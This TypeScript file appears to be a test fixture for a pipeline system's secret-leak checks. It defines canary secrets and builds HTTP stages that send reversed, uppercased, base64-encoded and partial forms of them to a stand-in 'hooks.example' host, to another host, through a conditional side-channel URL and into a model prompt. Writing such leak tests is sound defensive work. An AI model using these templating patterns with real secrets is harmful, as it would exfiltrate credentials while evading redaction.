/** Values that pipelines change before they send them; no service says them back. */
export const CHANGED: Readonly<Record<'FREE' | 'BOUND', string>> = {
  FREE: 'Zq7xKp-free-canary-Wn3vTd',
  BOUND: 'Yj4wLs-bound-canary-Hc8rGm',
};

/** What changed values begin or end with, by the name of the secret and of the change. */
const PIECES: readonly (readonly [name: string, text: string])[] = Object.entries(CHANGED).flatMap(([name, value]) =>
  [
    ['beginning', value.slice(0, 6)],
    ['beginning in small letters', value.slice(0, 6).toLowerCase()],
    ['reversed', [...value.slice(-8)].reverse().join('')],
    ['upper', value.slice(0, 9).toUpperCase()],
    ['in base64 twice', btoa(btoa(value.slice(0, 9))).slice(0, 12)],
  ].map(([change, text = '']) => [`${name} ${change}`, text] as const),
);

/** Names of what is found in `text`. */
export function piecesIn(text: string): readonly string[] {
  return PIECES.filter(([, piece]) => text.includes(piece)).map(([name]) => name);
}

const CHANGES = (name: string) => ({
  url: `/{{secrets.${name}[0:6]}}`,
  method: 'POST',
  query_params: { upper: `{{secrets.${name} | upper}}`, list: [`{{secrets.${name} | b64encode | b64encode}}`] },
  headers: { 'X-Key': `{{secrets.${name} | reverse}}` },
  body: { reversed: `{{secrets.${name} | reverse}}`, text: `{{secrets.${name}[0:9] | upper}} and more` },
});

/** Sends parts and changed forms of both secrets; `elsewhere` is where only one of them may go. */
export function changingPipeline(service: string, elsewhere: string): object {
  const call = (id: string, config: object, stage: object = {}) => ({
    id,
    component: 'http_request',
    on_error: 'continue',
    idempotent: true,
    config,
    ...stage,
  });
  const changed = CHANGES('FREE');
  const at = (base: string, { url, ...rest } = changed) => ({ ...rest, url: base + url });
  return {
    name: 'changing',
    version: '1.0.0',
    settings: { on_failure: 'finish' },
    stages: [
      call('sent', at(`${service}/quiet`)),
      call('refused', at(`${service}/failing`)),
      call('nobody', at(elsewhere)),
      call('rewritten', at('https://hooks.example')),
      call('redirected', { ...at(`${service}/moved`), method: 'GET', follow_redirects: true }),
      call('silent', at(`${service}/silent`), { timeout_ms: 100 }),
      call('unknown', { url: 'http://{{secrets.FREE[0:6] | lower}}.invalid/' }),
      call('bound', at(`${service}/quiet`, CHANGES('BOUND'))),
      call('stray', at(elsewhere, CHANGES('BOUND'))),
      call('guess', { url: `${elsewhere}/{{'a' if secrets.BOUND[0:1] == 'Y' else input.nothing}}` }),
      call('strayed', { url: `${elsewhere}/{{secrets.BOUND | urlencode | b64encode}}` }),
      call('whole', { url: `${service}/quiet`, headers: { Authorization: 'Bearer {{secrets.BOUND}}' } }),
      {
        id: 'model',
        component: 'generator',
        on_error: 'continue',
        config: { model: 'm-{{secrets.FREE | reverse}}', prompt: '{{secrets.BOUND[0:6]}}' },
      },
    ],
    output_mapping: { url: '{{stages.sent.output.url}}', error: '{{stages.stray.error}}' },
  };
}
